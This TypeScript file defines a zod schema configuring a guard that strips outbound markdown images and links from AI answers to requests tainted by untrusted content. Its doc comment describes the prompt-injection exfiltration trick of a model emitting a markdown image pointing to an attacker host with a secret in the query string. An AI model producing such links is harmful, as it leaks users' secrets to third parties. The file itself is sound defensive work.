import { z } from 'zod';
import { normalizeDomainPattern } from './hosts.js';

/** `docs.example.com` (that host only) or `*.example.com` (any subdomain of it, not the apex). */
const domainPatternSchema = z
  .string()
  .min(1)
  .max(253)
  .refine((pattern) => normalizeDomainPattern(pattern) !== null, { message: 'expected a host name ("docs.example.com") or a wildcard of its subdomains ("*.example.com"), without scheme, port or path' });

/**
 * The exfiltration-link guard on answers to tainted requests (the context holds untrusted content,
 * or the session does). A prompt injection's favourite way out is zero-click: the model writes a
 * markdown image `![](https://attacker/x?d=<secret>)` and the client, rendering the answer, fetches
 * it. To be merged into the policy schema as `exfilLinks: exfilLinksSchema.prefault({})`.
 */
export const exfilLinksSchema = z.strictObject({
  /**
   * `neutralize`: in an answer to a tainted request, markdown images and links, reference
   * definitions, `<…>` autolinks and HTML tags whose address leaves for a host not in
   * `allowedDomains` are replaced by `[image removed: <host>]` / `[link removed: <host>]` (the
   * link's text is kept). `off`: answers are left alone. Answers to untainted requests are never
   * touched. @default 'neutralize'
   */
  action: z.enum(['neutralize', 'off']).default('neutralize'),
  /** Hosts whose images and links are kept even in tainted answers. @default [] */
  allowedDomains: z.array(domainPatternSchema).default([]),
});

export type ExfilLinksConfig = z.output<typeof exfilLinksSchema>;
export type ExfilLinksConfigInput = z.input<typeof exfilLinksSchema>;
